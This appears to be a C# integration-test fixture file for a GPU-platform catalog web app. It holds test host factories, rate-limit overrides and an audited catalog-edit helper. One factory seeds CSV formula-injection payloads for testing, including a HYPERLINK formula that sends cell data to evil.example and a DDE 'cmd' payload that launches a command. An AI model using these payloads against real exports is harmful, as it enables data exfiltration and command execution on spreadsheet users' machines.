using FreeGpuPortal.Web.Auditing;
using FreeGpuPortal.Web.Catalog;
using FreeGpuPortal.Web.Catalog.Editing;
using FreeGpuPortal.Web.Data;

using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Hosting;

namespace FreeGpuPortal.IntegrationTests.Api;

/// <summary>
/// The real app in its own data directory, as <see cref="PortalFactory"/>, with rate limits
/// high enough that the many requests of one test class are never refused (the limits have tests of their own).
/// </summary>
public class ApiFactory : PortalFactory
{
    protected virtual int ApiPermitPerMinute => 100_000;

    protected virtual int ParsePermitPerMinute => 100_000;

    protected override IEnumerable<KeyValuePair<string, string>> Settings =>
    [
        new("RateLimits:Api:PermitPerMinute", ApiPermitPerMinute.ToString(System.Globalization.CultureInfo.InvariantCulture)),
        new("RateLimits:HardwareReportParse:PermitPerMinute", ParsePermitPerMinute.ToString(System.Globalization.CultureInfo.InvariantCulture)),
    ];

    /// <summary>
    /// Changes the catalog through the app's own DbContext, recording each changed platform in the history in the
    /// same save (with a new concurrency stamp), as an admin edit would; the app's audit guard refuses it otherwise.
    /// </summary>
    public async Task EditCatalogAsync(Func<CatalogDbContext, Task> edit)
    {
        var factory = Services.GetRequiredService<IDbContextFactory<CatalogDbContext>>();
        await using var db = await factory.CreateDbContextAsync();
        await edit(db);
        db.ChangeTracker.DetectChanges();
        foreach (var platform in db.ChangeTracker.Entries<Platform>().Where(e => e.State == EntityState.Modified).Select(e => e.Entity).ToList())
        {
            platform.ConcurrencyStamp = Guid.NewGuid();
            db.CatalogChanges.Add(new CatalogChange
            {
                PlatformId = platform.Id,
                Kind = ChangeKind.Edit,
                ActorUserId = TestAdmin.UserId,
                ActorDisplayName = TestAdmin.DisplayName,
                AtUtc = DateTime.UtcNow,
                Note = "Edited by an API test.",
                ConcurrencyStampAfter = platform.ConcurrencyStamp,
            });
        }

        await db.SaveChangesAsync();
    }

    public static readonly Actor TestAdmin = new("test-admin-id", "admin@example.org");
}

/// <summary>Tiny limits: 2 API reads and 1 parse a minute per IP.</summary>
public sealed class RateLimitedApiFactory : ApiFactory
{
    protected override int ApiPermitPerMinute => 2;

    protected override int ParsePermitPerMinute => 1;
}

/// <summary>
/// The seed catalog with formula-injection attempts written into it through the DbContext after start-up: a vendor,
/// a pro and a con that a spreadsheet would run as formulas if the CSV passed them on unchanged.
/// </summary>
public sealed class FormulaInjectionFactory : ApiFactory
{
    public const string HostileVendor = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")";
    public const string HostilePro = "+1+2";
    public const string HostileCon = "@SUM(1+1)*cmd|' /C calc'!A0";

    protected override IHost CreateHost(IHostBuilder builder)
    {
        var host = base.CreateHost(builder);
        var editor = host.Services.GetRequiredService<CatalogEditor>();
        Edit(editor, "gradient", p => p.Vendor = HostileVendor);
        Edit(editor, "colab", p => p.Pros = [HostilePro, .. p.Pros]);
        Edit(editor, "kaggle", p => p.Cons = [HostileCon, .. p.Cons]);
        return host;
    }

    private static void Edit(CatalogEditor editor, string slug, Action<PlatformEditModel> edit)
    {
        var model = editor.GetForEditAsync(slug).GetAwaiter().GetResult()!;
        edit(model);
        var result = editor.UpdateAsync(new PlatformChangeRequest(model, ChangeEvidence.None, TestAdmin)).GetAwaiter().GetResult();
        if (result is not EditResult.Success)
        {
            throw new InvalidOperationException($"The hostile edit of {slug} was not saved: {result}");
        }
    }
}

public static class RepoPaths
{
    /// <summary>The repository root: the nearest folder above the test binaries holding the solution file.</summary>
    public static string Root { get; } = FindRoot();

    public static string Fixture(string relativePath) =>
        Path.Combine(Root, "tests", "fixtures", "hardware-reports", relativePath);

    private static string FindRoot()
    {
        for (var directory = new DirectoryInfo(AppContext.BaseDirectory); directory is not null; directory = directory.Parent)
        {
            if (File.Exists(Path.Combine(directory.FullName, "FreeGpuPortal.sln")))
            {
                return directory.FullName;
            }
        }

        throw new InvalidOperationException("FreeGpuPortal.sln not found above " + AppContext.BaseDirectory);
    }
}
